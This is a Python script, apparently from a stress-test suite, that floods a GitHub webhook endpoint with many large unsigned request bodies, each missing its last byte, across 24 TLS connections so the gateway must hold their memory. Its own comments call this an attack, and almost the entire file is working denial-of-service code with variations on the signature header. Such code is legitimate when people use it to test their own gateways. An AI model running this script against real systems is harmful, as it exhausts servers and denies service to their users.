"""Large bodies that no secret signed, complete but for the last byte: they hold the memory that honest deliveries need."""

import select
import time

import wire

HEADERS = {
    "none": [],
    "plausible": [f"X-Hub-Signature-256: {wire.PLAUSIBLE}"],
    "malformed": ["X-Hub-Signature-256: sha256=zz"],
    "doubled": [f"X-Hub-Signature-256: {wire.PLAUSIBLE}"] * 2,
}


def answered(connection, seconds):
    """Waits for an answer for up to this time. Returns its status, or None."""
    if not connection.pending() and not select.select([connection], [], [], max(0.0, seconds))[0]:
        return None
    return wire.answer(connection)[0]


def main():
    options = wire.parser(__doc__, connections=24, rate=64_000_000)
    options.add_argument("--megabytes", type=float, default=10.7, help="size of each body")
    options.add_argument("--signature", choices=HEADERS, default="none")
    options.add_argument("--path", default="/github")
    options = options.parse_args()
    length = int(options.megabytes * 1_000_000)
    head = wire.head(options.path, length, *wire.github("push", "unsigned", None), *HEADERS[options.signature])
    body = b'{"a":"' + b"x" * (length - 7)
    counts, pace, connects = wire.Counts(), wire.Pace(options.rate), wire.Pace(20)
    until = wire.begin(options)

    def hold(connection):
        """Sends the body and waits for the answer, as long as the attack lasts."""
        connection.sendall(head)
        for start in range(0, len(body), 65536):
            if (status := answered(connection, 0)) is not None:
                return status
            pace.take(65536)
            connection.sendall(body[start:start + 65536])
            counts.add("body bytes sent", min(65536, len(body) - start))
        counts.add("bodies held")
        return answered(connection, until - time.monotonic())

    def work(number):
        while time.monotonic() < until:
            connects.take(1)
            try:
                with wire.tls(options.port, wire.source(number, options.addresses)) as connection:
                    counts.add(f"answered {hold(connection)}")
            except OSError:
                counts.add("closed by the gateway")

    wire.many_threads(options.connections, work, until)
    wire.finish(**counts.values)


main()
